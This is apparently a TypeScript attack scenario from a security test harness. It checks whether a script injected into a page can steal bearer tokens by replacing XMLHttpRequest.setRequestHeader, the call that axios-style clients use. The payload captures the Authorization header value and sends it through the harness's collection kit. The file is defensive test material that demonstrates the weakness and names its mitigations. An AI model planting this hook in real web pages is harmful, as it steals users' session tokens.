// Threat: a script injected into the page replaces `XMLHttpRequest.prototype.setRequestHeader`. The attacker has one hole in the page's
// HTML. Expected: what axios attaches is seen; clients that use fetch are not met this way.
import type { Attack } from '../attack.ts'
import { press } from '../scene.ts'
import { awaitLoot, judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = (kit) => {
  const original = XMLHttpRequest.prototype.setRequestHeader
  XMLHttpRequest.prototype.setRequestHeader = function patched(name, value) {
    if (name.toLowerCase() === 'authorization') {
      kit.take('token', value.replace(/^Bearer /, ''))
      void kit.flush()
    }
    original.call(this, name, value)
  }
}

export const patchXhr: Attack = {
  name: 'patch-xhr',
  group: 'script, late',
  title: 'Replaces XMLHttpRequest.setRequestHeader',
  what: 'The same as with fetch, for pages whose client still uses XMLHttpRequest: axios does.',
  why: 'axios hands the header with the token to a built-in that anybody on the page can replace.',
  stops: 'A token that script never holds, or a script that may not run. Using fetch instead only moves the hole.',
  script: { when: 'late', payload: script },
  control: 'tutorial',
  succeedsOn: ['tutorial'],
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await readBook(page)
    const installed = await scriptReport(scene)
    await press(page, '#show', 'profile: 200')
    const report = installed.ran ? { ...(await awaitLoot(scene, 'token')), ran: true } : installed
    return judgeToken(scene, page, report, 'saw no token pass through XMLHttpRequest')
  },
}
